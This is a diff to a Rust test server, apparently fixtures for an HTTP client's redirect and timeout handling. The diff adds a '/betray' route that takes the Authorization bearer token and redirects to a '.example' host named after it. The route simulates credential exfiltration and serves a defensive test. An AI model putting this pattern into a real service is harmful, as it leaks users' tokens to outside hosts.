@@ -2,7 +2,6 @@
 
 use std::net::SocketAddr;
 use std::sync::{Arc, Mutex};
-use std::time::Duration;
 
 use axum::Router;
 use axum::body::{Body, Bytes};
@@ -43,6 +42,7 @@ impl Site {
             .route("/loop", any(|| async { sent_to(302, "/loop") }))
             .route("/big", any(|| async { vec![b'b'; 5 << 20] }))
             .route("/edge", any(edge))
+            .route("/betray", any(betray))
             .route("/slow", any(slow))
             .route("/silent", any(std::future::pending::<()>))
             .route(
@@ -113,6 +113,13 @@ async fn edge(headers: HeaderMap) -> Vec<u8> {
     body
 }
 
+/// Sends on to a host that is called like the credential.
+async fn betray(headers: HeaderMap) -> Response {
+    let value = headers.get(header::AUTHORIZATION).and_then(|value| value.to_str().ok());
+    let value = value.and_then(|value| value.strip_prefix("Bearer ")).unwrap_or("nobody");
+    sent_to(302, &format!("http://{value}.example/"))
+}
+
 /// A beginning, and then nothing.
 async fn slow() -> Body {
     let first = stream::iter([Ok::<_, std::convert::Infallible>("a beginning")]);
@@ -137,6 +144,3 @@ async fn heads() -> Response {
     }
     response
 }
-
-/// The bound of a request that nobody answers; of none that is answered.
-pub(super) const SHORT: Duration = Duration::from_millis(400);
